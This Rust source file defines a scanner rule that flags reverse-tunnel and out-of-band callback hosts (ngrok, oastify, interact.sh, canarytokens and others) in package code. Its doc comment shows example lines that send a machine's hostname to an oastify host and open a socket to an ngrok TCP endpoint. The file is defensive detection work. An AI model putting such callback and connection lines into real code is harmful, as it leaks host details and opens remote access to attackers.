use ossprey_model::{Category, Finding, Severity};
use ossprey_static::facts::text::ServiceClass;

use super::util::{context_severity, is_placeholder, service_mentions, subdomain};
use crate::{Input, Rule, finding};

/// Labels in front of a service suffix that name the service's own site, not a
/// user's tunnel or callback.
pub(crate) const GENERIC_LABELS: &[&str] = &[
    "www",
    "api",
    "docs",
    "doc",
    "dashboard",
    "app",
    "blog",
    "status",
    "help",
    "support",
    "cdn",
    "mail",
    "download",
    "downloads",
    "bin",
    "dl",
    "static",
    "assets",
    "my",
    "account",
    "login",
    "members",
    "dynupdate",
    "update",
    "dyn",
];

/// ## What it does
/// Finds a concrete reverse-tunnel or out-of-band-interaction host in code: a
/// subdomain of ngrok, trycloudflare, localtunnel, serveo…, or of interact.sh,
/// oastify, burpcollaborator, dnslog.cn, ceye.io, canarytokens…; the services'
/// own sites (`ngrok.io`, `www.…`) and placeholders do not count.
///
/// ## Why is this bad?
/// These hosts exist to receive connections from machines that should not be
/// talking to you: a tunnel hides the attacker's server behind a throwaway name, and
/// an OAST host records every DNS lookup or HTTP request that reaches it.
/// Dependency-confusion probes and reverse shells use them to learn which company
/// installed the package, and to get a shell on it. No library needs a particular
/// person's tunnel or collaborator host.
///
/// ## Example
/// ```python
/// requests.get("http://x1y2z3.oastify.com", params={"h": socket.gethostname()})
/// s.connect(("4.tcp.eu.ngrok.io", 19931))
/// ```
#[derive(Debug)]
pub struct TunnelOast;

impl Rule for TunnelOast {
    fn id(&self) -> &'static str {
        "NET-TUNNEL-OAST"
    }
    fn category(&self) -> Category {
        Category::NETWORK
    }
    fn summary(&self) -> &'static str {
        "a tunnel or OAST/collaborator host (ngrok, interact.sh, oastify, …) in code"
    }
    fn check(&self, input: &Input<'_>, out: &mut Vec<Finding>) {
        for m in service_mentions(input, &[ServiceClass::Tunnel, ServiceClass::Oast]) {
            if is_placeholder(&m.host) || is_placeholder(&m.rest) {
                continue;
            }
            let label = subdomain(&m.host, m.entry).is_some_and(|l| {
                let first = l.rsplit('.').next().unwrap_or(l);
                !GENERIC_LABELS.contains(&first) && !l.contains("example")
            });
            let path = m.rest.trim_start_matches('/');
            let path_token = m.entry.starts_with("canarytokens") && path.len() >= 10;
            if !label && !path_token {
                continue;
            }
            out.push(finding(
                self.id(),
                context_severity(Severity::High, m.file),
                self.category(),
                format!(
                    "code reaches `{}`, a tunnel or out-of-band callback host",
                    m.host
                ),
                Some(&m.file.path),
                Some(m.line),
                Some(&m.text),
            ));
        }
    }
}
